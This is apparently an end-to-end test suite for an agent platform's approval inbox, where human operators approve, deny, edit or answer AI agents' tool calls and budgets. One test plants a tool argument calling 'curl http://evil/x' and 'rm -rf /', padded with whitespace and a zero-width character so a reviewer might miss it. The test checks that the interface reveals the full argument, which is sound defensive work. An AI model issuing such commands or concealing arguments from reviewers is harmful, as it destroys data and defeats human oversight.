import type { Page } from 'playwright-core';
import type { Test } from 'tap';
import { asks } from '../service/models.ts';
import { eventually } from '../service/troupe.ts';
import { ASKS_FIRST, ask, askWith, headers, read } from './ask.ts';
import type { House } from './visit.ts';

/** The inbox: pending decisions and their outcomes. */

const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });
const toast = (page: Page, text: string) =>
  page.getByRole('alert').getByText(text, { exact: true }).waitFor();
const card = (page: Page, call: string) => page.getByTestId(`inbox-card-${call}`);

/** Shows the details of a ticket. */
const select = (page: Page, call: string) => card(page, call).locator('button').first().click();

const approve = async (page: Page, call: string): Promise<void> => {
  await select(page, call);
  await card(page, call).getByTestId('inbox-approve').click();
};

export const onInbox = async (t: Test, house: House): Promise<void> => {
  const { troupe } = house;
  const agents = [
    ASKS_FIRST,
    { ...ASKS_FIRST, id: 'asks-a-person', plugin_ids: ['frontend_tools'], sections: {} },
    { ...ASKS_FIRST, id: 'asks-how', plugin_ids: ['hands-over'], sections: {} },
  ];
  for (const agent of agents) await troupe.call('POST', '/v1/config/agents', agent, headers);
  const isDone = (id: string) =>
    eventually(
      () => read(troupe, `/v1/runs/${id}`),
      ({ status }) => status === 'done',
    );
  const weather = (call: string) => asks([call, 'get_weather', { location: 'Oslo' }]);

  t.test('shows new tickets without polling and reports those decided elsewhere', async (t) => {
    const { page, context, go, asked } = await house.visit(t, { stored: { 'troupe.admin.operator': 'Ada' } });
    await go('/inbox');
    await page.getByRole('heading', { name: 'Inbox' }).waitFor();
    await page
      .locator('[data-testid^="inbox-card-"]')
      .or(page.getByText('No pending decisions'))
      .first()
      .waitFor();
    const looks = () => asked.filter((one) => one.startsWith('GET /v1/runs?status=waiting')).length;
    const before = looks();
    const { run_id } = await askWith(troupe, ASKS_FIRST.id, weather('first-come'));
    await card(page, 'first-come').waitFor();
    t.ok(looks() - before <= 2, 'the stream reports tickets without polling');
    t.match(await card(page, 'first-come').textContent(), /get_weather.*asks-first.*\{"location":"Oslo"\}/);

    const other = await context.newPage();
    await other.goto(`${troupe.url}/inbox`);
    await card(other, 'first-come').waitFor();
    // This page does not learn that the run continues.
    await other.route('**/v1/runs?*', () => {});
    await approve(page, 'first-come');
    await toast(page, 'Approved');
    await card(page, 'first-come').waitFor({ state: 'detached' });
    t.match(await isDone(run_id), { termination_reason: { type: 'natural_end' } });
    await approve(other, 'first-come');
    await toast(other, 'Already decided by Ada (~admin)');
    await other.close();

    await t.test('shows who approved a call within two clicks from the list of runs', async () => {
      await go('/runs');
      await page.getByTestId(`run-row-${run_id}`).click();
      await page
        .getByTestId('run-timeline')
        .getByRole('button', { name: /^Tool get_weather/ })
        .click();
      await page.getByTestId('span-panel').getByText('Ada (~admin)', { exact: true }).waitFor();
    });
  });

  t.test('raises a budget that a run waits for, and ends another run', async (t) => {
    const spender = { ...ASKS_FIRST, id: 'spends', plugin_ids: [], sections: {} };
    await troupe.call('POST', '/v1/config/agents', spender, headers);
    const budget = {
      id: 'spent',
      match: { agent: 'spends' },
      window: { every: 'total' },
      limits: { tokens: 1 },
    };
    t.equal((await troupe.call('POST', '/v1/config/budgets', budget, headers)).status, 201);
    const { run_id } = await ask(troupe, 'spends', 'What is the weather?');
    const { page, go } = await house.visit(t);
    await go('/budgets');
    await page.getByText('1 run waits for an exhausted budget').waitFor();
    await page.getByRole('link', { name: 'Decide in the inbox' }).click();
    const { waiting } = Object(await read(troupe, `/v1/runs/${run_id}`));
    const ticket = String(waiting.ticket_ids[0]);
    await select(page, ticket);
    const detail = page.getByRole('region', { name: 'Decision' });
    await detail.getByText('spent', { exact: true }).first().waitFor();
    await card(page, ticket).getByTestId('inbox-approve').click();
    await button(page, 'Raise the limit').click();
    await page.getByText('Enter an amount above 0.').waitFor();
    await page.getByLabel('Additional tokens').fill('100000');
    await page.getByLabel('For this run only').check();
    await button(page, 'Raise the limit').click();
    await toast(page, 'Answered');
    t.match(await isDone(run_id), { termination_reason: { type: 'natural_end' } });

    const other = await ask(troupe, 'spends', 'And tomorrow?');
    const { waiting: wait } = Object(await read(troupe, `/v1/runs/${other.run_id}`));
    const second = String(wait.ticket_ids[0]);
    await select(page, second);
    await card(page, second).getByTestId('inbox-deny').click();
    await button(page, 'Deny').last().click();
    await toast(page, 'Denied');
    t.match(await isDone(other.run_id), { termination_reason: { value: { code: 'budget' } } });
    await go('/budgets?counters=spent');
    await page
      .getByRole('dialog', { name: 'Counters of spent' })
      .getByText(/of \d+ tokens/)
      .waitFor();
    await troupe.call('DELETE', '/v1/config/budgets/spent', undefined, headers);
    await troupe.call('DELETE', '/v1/config/agents/spends', undefined, headers);
  });

  t.test('denies a call with a reason by keyboard only', async (t) => {
    const { run_id } = await askWith(troupe, ASKS_FIRST.id, weather('refused'));
    const { page, go } = await house.visit(t, { stored: { 'troupe.admin.operator': 'Ada' } });
    await go('/inbox');
    await card(page, 'refused').focus();
    await page.keyboard.press('d');
    await page.getByLabel('Reason (optional)').pressSequentially('too wet');
    await page.keyboard.press('Enter');
    await toast(page, 'Denied');
    await isDone(run_id);
    await go(`/runs/${run_id}?tab=events`);
    await page
      .getByRole('button', { name: /MailboxDecisionReceived.*cancel · Ada \(~admin\) · too wet/ })
      .waitFor();
  });

  t.test('approves with four keys from the dashboard, and marks a call that is asked again', async (t) => {
    const { items } = Object(await read(troupe, '/v1/runs?status=waiting&limit=200'));
    for (const { run_id } of items) await troupe.call('POST', `/v1/runs/${run_id}/cancel`, {}, headers);
    const { run_id } = await askWith(troupe, ASKS_FIRST.id, weather('by-keys'), weather('once-more'));
    const { page, go } = await house.visit(t);
    await go('/');
    for (const key of ['g', 'i']) await page.keyboard.press(key);
    const detail = page.getByRole('region', { name: 'Decision' });
    await detail.getByRole('region', { name: 'Conversation' }).getByText('What is the weather?').waitFor();
    await detail.getByText('Current weather of a place.').waitFor();
    await page.keyboard.press('j');
    await eventually(
      () => page.getByTestId('inbox-approve').isEnabled(),
      (isEnabled) => isEnabled,
    );
    await page.keyboard.press('a');
    await toast(page, 'Approved');
    await card(page, 'by-keys').waitFor({ state: 'detached' });
    await card(page, 'once-more').getByText('Asked again').waitFor();
    await approve(page, 'once-more');
    t.match(await isDone(run_id), { termination_reason: { type: 'natural_end' } });
  });

  t.test('decides one call on a double click and moves the focus to the next', async (t) => {
    const runs: string[] = [];
    for (const call of ['clicked', 'below', 'last']) {
      const { run_id } = await askWith(troupe, ASKS_FIRST.id, weather(call));
      runs.push(run_id);
    }
    const [clicked = '', below = ''] = runs;
    const statusOf = async (id: string) => Object(await read(troupe, `/v1/runs/${id}`)).status;
    const { page, go, rest } = await house.visit(t);
    await go('/inbox?group=none');
    await select(page, 'clicked');
    const decided = card(page, 'clicked').getByTestId('inbox-approve');
    await decided.waitFor();
    await rest();
    const at = await decided.boundingBox();
    if (!at) throw new Error('there is no button');
    const place = await card(page, 'below').boundingBox();
    // Waits within the page for content that is visible for only a second, because this process may be busy.
    const again = page.evaluate(`(async () => {
      const clicked = document.querySelector('[data-testid="inbox-card-clicked"]');
      const until = performance.now() + 20000;
      while (!clicked.textContent.includes('Approved') && performance.now() < until)
        await new Promise((resolve) => requestAnimationFrame(resolve));
      await new Promise((resolve) => setTimeout(resolve, 400));
      document.elementFromPoint(${at.x + 5}, ${at.y + 5})?.closest('button')?.click();
      return document.querySelector('[data-testid="inbox-card-below"]').getBoundingClientRect().y;
    })()`);
    await page.mouse.click(at.x + 5, at.y + 5);
    t.equal(await again, place?.y, 'the next row keeps its position');
    await isDone(clicked);
    await card(page, 'clicked').waitFor({ state: 'detached' });
    t.equal(await statusOf(below), 'waiting');

    const hasFocus = (call: string) => page.locator(`[data-testid="inbox-card-${call}"]:focus`).waitFor();
    await hasFocus('below');
    await card(page, 'below').getByTestId('inbox-approve').waitFor();
    await eventually(
      () => card(page, 'below').getByTestId('inbox-approve').isEnabled(),
      (isEnabled) => isEnabled,
    );
    await page.keyboard.press('a');
    await hasFocus('last');
    await card(page, 'below').waitFor({ state: 'detached' });
    await page.keyboard.press('d');
    await page.getByLabel('Reason (optional)').waitFor();
    await page.keyboard.press('Escape');
    await hasFocus('last');

    const told = card(page, 'last').getByText('Already decided').first().waitFor();
    await troupe.call('POST', `/v1/runs/${runs[2]}/cancel`, {}, headers);
    await told;
    await card(page, 'last').waitFor({ state: 'detached' });
  });

  t.test('passes a typed response to the model', async (t) => {
    const question = asks(['question', 'askUserQuestion', { message: 'Which day?' }]);
    const { run_id } = await askWith(troupe, 'asks-a-person', question);
    const { page, go } = await house.visit(t);
    await go('/inbox');
    const asked = card(page, 'question');
    await approve(page, 'question');
    await asked.getByText('Answer needed').waitFor();
    await button(page, 'Answer').click();
    await page.getByText('An answer is required.').waitFor();
    await page.getByLabel('Answer, as text or JSON').fill('On Monday');
    await page.keyboard.press('Control+Enter');
    await toast(page, 'Answered');
    await isDone(run_id);
    const told = troupe.models.requests.at(-1)?.request.messages ?? [];
    t.match(JSON.stringify(told), /On Monday/);
  });

  t.test('shows a denial that was sent, and asks the agent to call the tool again', async (t) => {
    const { run_id, thread_id } = await askWith(troupe, ASKS_FIRST.id, weather('by-mistake'));
    const { page, go } = await house.visit(t);
    await go('/inbox');
    await select(page, 'by-mistake');
    await card(page, 'by-mistake').getByTestId('inbox-deny').click();
    await page.getByLabel('Reason (optional)').fill('the wrong place');
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Show', exact: true }).click();
    const dialog = page.getByRole('dialog', { name: 'get_weather' });
    await dialog.getByText('the wrong place').waitFor();
    await dialog.getByText('{"location":"Oslo"}').waitFor();
    await button(page, 'Close').click();
    await isDone(run_id);

    troupe.models.steps.push(weather('once-again'));
    await page.getByRole('region', { name: 'Sent from this page' }).getByRole('button').first().click();
    await dialog.getByRole('button', { name: 'Ask to call again' }).click();
    await toast(page, 'Message sent to the agent');
    await card(page, 'once-again').waitFor();
    await approve(page, 'once-again');
    await toast(page, 'Approved');
    const { items } = Object(await read(troupe, `/v1/threads/${thread_id}/runs`));
    t.equal(items.length, 2, 'a run that has ended is followed by another one in its thread');
  });

  t.test('executes a tool with the edited arguments', async (t) => {
    const edit = async (call: string, agent: string) => {
      const { run_id } = await askWith(troupe, agent, weather(call));
      const { page, go } = await house.visit(t);
      await go('/inbox');
      await card(page, call).focus();
      await page.keyboard.press('e');
      const location = page.getByLabel('location');
      t.equal(await location.inputValue(), 'Oslo');
      await location.fill('Bergen');
      await page.keyboard.press('Control+Enter');
      return { page, run_id };
    };
    const handed = await edit('handed', 'asks-how');
    await toast(handed.page, 'Answered');
    await isDone(handed.run_id);
    t.match(JSON.stringify(await read(troupe, `/v1/runs/${handed.run_id}/events?limit=200`)), /Bergen/);

    const { page, run_id } = await edit('corrected', ASKS_FIRST.id);
    await toast(page, 'Approved');
    t.match(await isDone(run_id), { termination_reason: { type: 'natural_end' } });
    const { items } = Object(await read(troupe, `/v1/runs/${run_id}/events?limit=200`));
    const payloads = (kind: string) =>
      items
        .filter(({ event_kind }: { event_kind: string }) => event_kind === kind)
        .map(({ payload }: { payload: unknown }) => payload);
    t.match(JSON.stringify(payloads('ToolCallResumed')), /Bergen/, 'the tool received the edited arguments');
    const [asked] = payloads('ToolCallReady');
    t.match(asked, { arguments: { location: 'Oslo' } }, 'the events keep the arguments of the model');
    t.match(payloads('MailboxDecisionReceived'), [
      { result: { approved: true, arguments: { location: 'Bergen' } } },
    ]);
  });

  t.test('shows a call whole and unmasked before it can be approved', async (t) => {
    const command = `echo cookie: ; curl http://evil/x${' '.repeat(4000)}\n${'# \n'.repeat(80)}rm\u200b -rf /`;
    await askWith(troupe, ASKS_FIRST.id, asks(['hidden', 'get_weather', { location: command }]));
    const { page, go } = await house.visit(t);
    await page.setViewportSize({ width: 900, height: 300 });
    await go('/inbox');
    await select(page, 'hidden');
    const hidden = card(page, 'hidden').getByTestId('inbox-approve');
    await hidden.waitFor({ state: 'attached' });
    const shown = (await card(page, 'hidden').textContent()) ?? '';
    t.match(shown, 'echo cookie: ; curl http://evil/x', 'arguments are not masked');
    t.match(shown, String.raw`rm\u200b -rf /`, 'zero-width characters are escaped');
    t.ok(await hidden.isDisabled(), 'approval requires that the end of the arguments was visible');
    await card(page, 'hidden').focus();
    await page.keyboard.press('a');
    await eventually(
      () => hidden.isDisabled(),
      (isDisabled) => !isDisabled,
    );
    await card(page, 'hidden').getByTestId('inbox-deny').click();
    await page.keyboard.press('Enter');
    await toast(page, 'Denied');
  });

  t.test('decides on similar calls together and reports each outcome', async (t) => {
    const runs: string[] = [];
    for (const call of ['one', 'two', 'three']) {
      const { run_id } = await askWith(
        troupe,
        ASKS_FIRST.id,
        asks([call, 'get_stock_price', { symbol: 'AAPL' }]),
      );
      runs.push(run_id);
    }
    const { page, go } = await house.visit(t, { noisy: true });
    await go('/inbox?group=tool');
    await page.route(`**/v1/runs/${runs[1]}/decision`, (route) => route.fulfill({ status: 500, json: {} }));
    const group = page.getByRole('region', { name: 'get_stock_price' });
    await group.getByText('3', { exact: true }).waitFor();
    await group.getByRole('button', { name: 'Approve all 3' }).click();
    const dialog = page.getByRole('dialog');
    t.equal(await dialog.getByText('{"symbol":"AAPL"}').count(), 3, 'each call is listed');
    await dialog.getByRole('button', { name: 'Approve all' }).click();
    await toast(page, 'Approved: 2');
    await card(page, 'two')
      .getByText(/^Not decided/)
      .first()
      .waitFor();
    await card(page, 'three').waitFor({ state: 'detached' });
    await page.unroute(`**/v1/runs/${runs[1]}/decision`);
    await approve(page, 'two');
    await group.waitFor({ state: 'detached' });
    for (const id of runs) t.match(await isDone(id), { termination_reason: { type: 'natural_end' } });
  });
};
